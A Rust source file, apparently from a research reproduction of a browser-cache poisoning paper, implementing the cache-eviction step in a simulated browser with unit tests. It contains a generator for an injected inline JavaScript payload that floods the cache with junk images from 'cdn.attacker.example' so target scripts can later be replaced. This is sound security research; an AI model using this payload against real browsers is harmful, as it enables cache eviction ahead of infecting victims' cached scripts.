//! Cache eviction (paper §IV, Figure 1, Table I).
//!
//! Before a target object can be re-fetched (and therefore infected), the
//! copy already sitting in the victim's browser cache has to go. The attacker
//! injects a small inline script into any open HTTP page; the script loads a
//! stream of junk images from the attacker's domain until the cache budget is
//! exhausted and the browser has evicted the older entries — including the
//! target objects.

use mp_browser::browser::Browser;
use mp_browser::profile::{BrowserProfile, EvictionBehaviour};
use mp_httpsim::url::{Scheme, Url};

/// The attacker's junk-object host.
pub const JUNK_HOST: &str = "cdn.attacker.example";

/// Result of running the eviction attack against one browser.
#[derive(Debug, Clone, PartialEq)]
pub struct EvictionReport {
    /// Which browser was attacked.
    pub browser: String,
    /// Whether every target object was evicted from the HTTP cache.
    pub evicted_targets: bool,
    /// Whether junk from the attacker's domain was able to displace entries
    /// of *other* domains (the "inter-domain" column of Table I).
    pub inter_domain: bool,
    /// Junk objects that were loaded.
    pub junk_objects_loaded: usize,
    /// Bytes of junk transferred.
    pub junk_bytes: u64,
    /// Peak-to-capacity memory pressure after the attack; values far above
    /// 1.0 indicate the Internet-Explorer-style memory exhaustion.
    pub memory_pressure: f64,
    /// Nominal cache capacity of the profile (the "Size" column).
    pub cache_capacity_bytes: u64,
    /// Free-text remark matching the paper's Remarks column.
    pub remark: String,
}

/// The inline script the attacker injects to trigger the junk loads, as it
/// would appear on the wire (Figure 1, step 2).
pub fn eviction_inline_script(junk_count: usize) -> String {
    format!(
        "(function __mp_evict(){{for(var i=0;i<{junk_count};i++){{var img=new Image();img.src='http://{JUNK_HOST}/junk'+i+'.jpg';}}}})();"
    )
}

/// The URL of the `i`-th junk object.
pub fn junk_url(index: usize) -> Url {
    Url::from_parts(Scheme::Http, JUNK_HOST, format!("/junk{index:04}.jpg"))
}

/// Cache-eviction attack driver.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EvictionAttack {
    /// Size of each junk object in bytes.
    pub junk_object_size: usize,
    /// Upper bound on junk objects to load before giving up.
    pub max_junk_objects: usize,
}

impl Default for EvictionAttack {
    fn default() -> Self {
        EvictionAttack {
            junk_object_size: 512 * 1024,
            max_junk_objects: 4096,
        }
    }
}

impl EvictionAttack {
    /// Creates an attack with explicit junk sizing (useful to keep unit tests
    /// and benches fast with small simulated caches).
    pub fn new(junk_object_size: usize, max_junk_objects: usize) -> Self {
        EvictionAttack {
            junk_object_size,
            max_junk_objects,
        }
    }

    /// Runs the eviction phase against a browser whose transport already
    /// resolves the attacker's junk host (any transport will do — unknown
    /// hosts simply produce uncacheable 404s, so use a transport that serves
    /// the junk host for a faithful run).
    ///
    /// `targets` are the URLs whose cached copies must disappear.
    pub fn run(&self, browser: &mut Browser, targets: &[Url]) -> EvictionReport {
        let profile = browser.profile().clone();
        let initially_cached: Vec<Url> = targets
            .iter()
            .filter(|t| browser.cache().contains_any_partition(t))
            .cloned()
            .collect();

        let mut junk_loaded = 0usize;
        let mut junk_bytes = 0u64;
        for index in 0..self.max_junk_objects {
            // Stop as soon as every initially cached target is gone.
            if initially_cached
                .iter()
                .all(|t| !browser.cache().contains_any_partition(t))
            {
                break;
            }
            let junk = junk_url(index);
            let result = browser.fetch(&junk, JUNK_HOST);
            junk_loaded += 1;
            junk_bytes += result.response.body.len() as u64;
        }

        let evicted_targets = targets
            .iter()
            .all(|t| !browser.cache().contains_any_partition(t));
        let remark = Self::remark(&profile, browser);

        EvictionReport {
            browser: format!("{} {}", profile.kind, profile.version),
            evicted_targets,
            inter_domain: profile.inter_domain_eviction,
            junk_objects_loaded: junk_loaded,
            junk_bytes,
            memory_pressure: browser.cache().memory_pressure(),
            cache_capacity_bytes: profile.cache_capacity_bytes,
            remark,
        }
    }

    fn remark(profile: &BrowserProfile, browser: &Browser) -> String {
        match profile.eviction {
            EvictionBehaviour::UnboundedGrowth => {
                if browser.cache().memory_pressure() > 1.0 {
                    "DOS on memory".to_string()
                } else {
                    "no eviction".to_string()
                }
            }
            EvictionBehaviour::LruWithSlowdown => "performance impact".to_string(),
            EvictionBehaviour::Lru => String::new(),
        }
    }
}

/// Builds the attacker's junk-object origin: a static origin serving
/// cacheable image blobs of the configured size.
pub fn junk_origin(object_size: usize, object_count: usize) -> mp_httpsim::transport::StaticOrigin {
    use mp_httpsim::body::{Body, ResourceKind};
    use mp_httpsim::message::Response;
    let mut origin = mp_httpsim::transport::StaticOrigin::new(JUNK_HOST);
    for index in 0..object_count {
        origin.put(
            format!("/junk{index:04}.jpg"),
            Response::ok(Body::binary(ResourceKind::Image, vec![0xAB; object_size]))
                .with_cache_control("public, max-age=31536000"),
        );
    }
    origin
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_browser::profile::BrowserProfile;
    use mp_httpsim::body::ResourceKind;
    use mp_httpsim::transport::{Internet, StaticOrigin};

    fn victim_site() -> StaticOrigin {
        let mut origin = StaticOrigin::new("bank.example");
        origin.put_text("/app.js", ResourceKind::JavaScript, "bank()", "public, max-age=86400");
        origin
    }

    fn world(junk_size: usize, junk_count: usize) -> Internet {
        let mut net = Internet::new();
        net.register_origin(victim_site());
        net.register_origin(junk_origin(junk_size, junk_count));
        net
    }

    fn tiny_profile(kind_profile: BrowserProfile, capacity: u64) -> BrowserProfile {
        BrowserProfile {
            cache_capacity_bytes: capacity,
            ..kind_profile
        }
    }

    #[test]
    fn junk_flood_evicts_the_target_from_an_lru_cache() {
        let profile = tiny_profile(BrowserProfile::chrome(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 64)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        browser.fetch(&target, "bank.example");
        assert!(browser.cache().contains_any_partition(&target));

        let attack = EvictionAttack::new(2_000, 64);
        let report = attack.run(&mut browser, std::slice::from_ref(&target));
        assert!(report.evicted_targets, "{report:?}");
        assert!(report.inter_domain);
        assert!(report.junk_objects_loaded > 0);
        assert!(report.remark.is_empty());
        assert!(!browser.cache().contains_any_partition(&target));
    }

    #[test]
    fn ie_profile_reports_memory_dos_instead_of_evicting() {
        let profile = tiny_profile(BrowserProfile::internet_explorer(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 64)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        browser.fetch(&target, "bank.example");

        let attack = EvictionAttack::new(2_000, 64);
        let report = attack.run(&mut browser, std::slice::from_ref(&target));
        assert!(!report.evicted_targets);
        assert!(!report.inter_domain);
        assert!(report.memory_pressure > 1.0);
        assert_eq!(report.remark, "DOS on memory");
        assert!(browser.cache().contains_any_partition(&target));
    }

    #[test]
    fn firefox_notes_the_performance_impact() {
        let profile = tiny_profile(BrowserProfile::firefox(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 64)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        browser.fetch(&target, "bank.example");
        let report = EvictionAttack::new(2_000, 64).run(&mut browser, &[target]);
        assert!(report.evicted_targets);
        assert_eq!(report.remark, "performance impact");
    }

    #[test]
    fn inline_script_and_junk_urls_are_well_formed() {
        let script = eviction_inline_script(64);
        assert!(script.contains(JUNK_HOST));
        assert!(script.contains("64"));
        let url = junk_url(3);
        assert_eq!(url.host, JUNK_HOST);
        assert_eq!(url.path, "/junk0003.jpg");
    }

    #[test]
    fn uncached_targets_report_success_without_loading_junk() {
        let profile = tiny_profile(BrowserProfile::chrome(), 20_000);
        let mut browser = Browser::new(profile, Box::new(world(2_000, 8)));
        let target = Url::parse("http://bank.example/app.js").unwrap();
        // Target never cached: nothing to evict.
        let report = EvictionAttack::new(2_000, 8).run(&mut browser, &[target]);
        assert!(report.evicted_targets);
        assert_eq!(report.junk_objects_loaded, 0);
    }
}
